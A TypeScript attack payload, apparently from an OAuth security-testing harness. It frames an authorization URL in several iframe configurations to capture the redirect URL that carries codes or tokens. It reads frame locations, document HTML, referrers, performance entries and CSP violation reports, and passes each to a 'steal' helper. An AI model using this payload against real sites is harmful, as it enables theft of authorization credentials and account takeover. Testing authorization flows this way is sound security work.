import type { Payload } from "./attack.js";

/** The silent flow in a frame, and every way in which a page may learn where the frame has ended. */
export const inAFrame: Payload = async (it) => {
  // A policy of the attacker's own may be violated by the redirect to the callback, and the report names what was blocked.
  addEventListener("securitypolicyviolation", (event) =>
    it.steal(event.blockedURI, event.documentURI, event.sourceFile),
  );
  const look = async (frame: HTMLIFrameElement) => {
    for (let tries = 0; tries < 60; tries++) {
      try {
        const { location, document, performance, navigation } = frame.contentWindow as typeof window & {
          navigation?: { currentEntry: { url: string } };
        };
        it.steal(location.href, document.URL, document.documentElement.outerHTML, document.referrer);
        it.steal(performance.getEntries(), navigation?.currentEntry.url);
      } catch {
        // The frame is of another origin now.
      }
      await it.pause(10);
    }
  };
  const open = async (attributes: Record<string, string>) => {
    const frame = document.createElement("iframe");
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    frame.onload = frame.onerror = (event) => it.steal(String(event));
    document.body.append(frame);
    await look(frame);
    frame.remove();
  };
  const src = it.authorizationUrl();
  await Promise.all([
    open({ src }),
    open({ src, referrerpolicy: "unsafe-url", name: "named", allow: "fullscreen *" }),
    open({ src, sandbox: "allow-same-origin allow-scripts allow-top-navigation" }),
    open({ src, csp: "default-src 'self'" }),
  ]);
  it.steal(performance.getEntries());
};
